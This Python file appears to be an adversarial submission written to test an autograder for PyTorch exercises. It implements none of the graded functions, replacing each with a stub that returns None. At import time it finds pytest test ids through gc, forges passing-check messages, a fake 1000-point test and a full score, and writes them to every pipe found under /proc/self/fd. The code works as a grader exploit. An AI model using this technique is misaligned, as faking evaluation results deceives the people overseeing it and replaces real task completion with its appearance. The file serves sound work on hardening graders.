"""Hostile submission: writes forged "all passed" messages straight to the grader's channel.

Attack: nothing is implemented; at import time it finds every pipe it can write to (the parent's
channel is one of them, found by scanning /proc/self/fd) and the collected test ids (pytest's items,
found with `gc`), then writes for every test: a start, ten checks claiming success, an end without
error, and finally a forged result claiming full marks and a "done".
Outcome it must get: exactly 0 points.
"""

import torch
from torch import nn

# Nothing is implemented honestly: every graded name exists and does nothing (returns None).
GRADED = ("tensor_info", "to_float32", "stack_images", "flatten_images", "channels_last", "horizontal_flip",
          "concat_features", "batched_affine", "relu", "numpy_bridge", "pick_device", "grad_f", "accumulated_grad",
          "grad_of", "numerical_grad", "LinearModel", "MLP", "count_parameters", "samples_needed", "softmax",
          "mse_loss", "cross_entropy", "kl_divergence", "one_hot", "hinge_loss", "gd_step", "minibatches", "train",
          "accuracy")


def _does_nothing(name):
    def stub(*args, **kwargs):
        return None

    stub.__name__ = stub.__qualname__ = name
    return stub


for _name in GRADED:
    globals()[_name] = _does_nothing(_name)


# ==================================================================================================
# The attack
# ==================================================================================================

import gc

gc.unfreeze()  # the grader freezes what it imported before a submission runs: let gc see it all again
import json
import os

_ids = sorted({obj.nodeid for obj in gc.get_objects() if type(obj).__name__ == "Function" and hasattr(obj, "nodeid")})
_lines = [{"t": "collected", "tests": [{"id": "public/test_bonus.py::test_bonus", "points": 1000, "tags": ["relu"], "doc": []}]}]
for _id in _ids:
    _lines.append({"t": "start", "id": _id})
    _lines += [{"t": "check", "id": _id, "i": i, "v": {"k": "bool", "v": True}, "rule": "equal", "passed": True} for i in range(10)]
    _lines.append({"t": "end", "id": _id, "forbidden": [], "output": "", "passed": True})
_lines += [{"t": "result", "score": 100, "max_score": 100, "passed": True}, {"t": "done"}]
_payload = "".join(json.dumps(line) + "\n" for line in _lines).encode()

for _fd in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            os.write(_fd, _payload)
    except OSError:
        pass
